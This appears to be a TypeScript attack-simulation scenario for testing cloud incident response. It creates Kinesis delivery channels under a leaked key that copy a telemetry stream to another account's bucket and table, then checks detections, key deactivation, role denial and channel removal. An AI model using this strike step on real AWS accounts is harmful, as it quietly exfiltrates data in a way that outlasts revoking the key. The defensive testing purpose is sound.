import { DescribeStreamSummaryCommand } from "@aws-sdk/client-kinesis";
import { attack } from "./attack.ts";
import { leakedKeyInactive } from "./checks.ts";
import { kinesisOf, removeUser, type Scene, withStream } from "./scene.ts";
import {
  type Courier,
  channelsOf,
  createChannelAs,
  deleteChannels,
  destinations,
  dismissCourier,
  hireCourier,
  policiesOf,
} from "./scene-channels.ts";

const telemetry = (scene: Scene): Scene => withStream(scene, "telemetry");

export const copyToBucket = attack<Courier>({
  id: "copy-to-bucket",
  title: "A stream is copied to another account by AWS itself",
  story:
    "With a leaked key the attacker makes two channels, one to a bucket and one to a table in an account of their own, under names that sound like the team's. From then on Kinesis delivers every record there by itself: no reader is to be seen, and taking the key away stops nothing.",
  attack: ["T1078.004", "T1537"],
  prepare: (scene) => hireCourier(scene, "deploy-telemetry"),
  strike: async (scene, { credentials, roleArn }) => {
    for (const [at, destination] of destinations(scene).entries())
      await createChannelAs(telemetry(scene), credentials, {
        ChannelName: `telemetry-lake-${at + 2}`,
        ServiceExecutionRoleARN: roleArn,
        ...destination,
      });
  },
  expected: {
    detections: ["stream-channel-created"],
    outcomes: [
      { action: "deactivate-access-key", type: "verified" },
      { action: "deny-role", type: "verified" },
      { action: "delete-stream-channel", type: "verified" },
      { action: "delete-stream-channel", type: "verified" },
    ],
    messages: "several",
  },
  again: async (scene, { credentials }) => {
    const { name: StreamName } = telemetry(scene).stream;
    await kinesisOf(scene, credentials).send(new DescribeStreamSummaryCommand({ StreamName }));
  },
  restored: async (scene) => (await channelsOf(telemetry(scene))).length === 0,
  checks: [
    {
      what: "no channel copies the stream any more",
      holds: async (scene) => {
        const left = await channelsOf(telemetry(scene));
        return left.length === 0 || `there is still ${left.map(({ ChannelName }) => ChannelName).join(", ")}`;
      },
    },
    {
      what: "the role that delivered is denied everything",
      holds: async (scene, courier) => {
        const policies = await policiesOf(scene, courier);
        return policies.some((text) => /"Effect":"Deny","Action":"\*"/.test(text)) || "it has no such policy";
      },
    },
    leakedKeyInactive,
  ],
  mend: (scene) => deleteChannels(telemetry(scene)),
  cleanUp: async (scene, courier) => {
    await dismissCourier(scene, courier);
    await removeUser(scene, courier);
  },
});
